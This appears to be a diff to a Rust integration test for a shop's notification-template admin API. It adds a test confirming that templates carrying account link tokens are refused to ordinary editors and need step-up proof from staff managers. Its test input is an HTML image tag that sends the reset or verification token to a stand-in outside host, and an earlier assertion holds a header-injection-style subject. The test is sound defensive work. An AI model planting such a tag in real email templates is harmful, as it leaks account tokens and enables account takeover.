@@ -2,7 +2,7 @@
 
 use super::neighbours::{World, confirmed, link, order, shipment};
 use hanse_auth_contract::{LinkAsked, LinkPurpose, PasswordChanged, RegistrationRepeated, UserRegistered};
-use hanse_kernel::{Actor, Currency, Money, PaymentId, Permission, RefundId, UserId};
+use hanse_kernel::{Actor, Currency, Money, PaymentId, Permission, Proof, RefundId, UserId};
 use hanse_notification::{MIGRATIONS, NotificationConfig};
 use hanse_order_contract::{OrderCancelled, OrderFulfilled, OrderPersonErased};
 use hanse_payment_contract::{PaymentOutcome, PaymentProcessed};
@@ -279,6 +279,35 @@ async fn a_merchant_edits_a_text_and_a_broken_one_is_refused_with_its_line() {
         module.client(Actor::Anonymous).put(path, json!({})).await.expect(401);
         shop.send("order", order(1), &confirmed(1)).await;
         assert_eq!(mails(&shop, &module, 1).await[0]["subject"], "Danke, Ana <Lund> Bcc: x@y");
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn a_mail_with_a_key_to_an_account_is_written_by_whoever_may_say_who_works_here() {
+    on_both("confirmed", "en", async |shop, module, _| {
+        let permissions =
+            [Permission::NotificationsRead, Permission::NotificationsWrite, Permission::StaffWrite];
+        let owner =
+            Actor::Staff { user: UserId::new(Uuid::from_u128(8)), permissions: Arc::new(permissions.into()) };
+        shop.until("the defaults are there", async || {
+            let listed = module.client(editor()).get("/api/admin/notification-templates").await.expect(200);
+            listed["items"].as_array().map(Vec::len) == Some(34)
+        })
+        .await;
+        let stolen = "<img src=\"https://elsewhere.example/{{ link.token }}\">";
+        let text = json!({"subject": "Hi", "text": "Hi", "html": stolen});
+        for kind in ["verify_email", "reset_password", "change_email", "invitation"] {
+            let path = format!("/api/admin/notification-templates/{kind}/en");
+            let refused = module.client(editor()).put(&path, text.clone()).await.expect(403);
+            assert_eq!(refused["code"], "forbidden", "{kind}");
+            for proof in [Proof::Former, Proof::Key] {
+                let asked =
+                    module.client(owner.clone()).proof(proof).put(&path, text.clone()).await.expect(403);
+                assert_eq!(asked["code"], "step_up_required", "{kind}");
+            }
+            module.client(owner.clone()).put(&path, text.clone()).await.expect(200);
+        }
     })
     .await;
 }
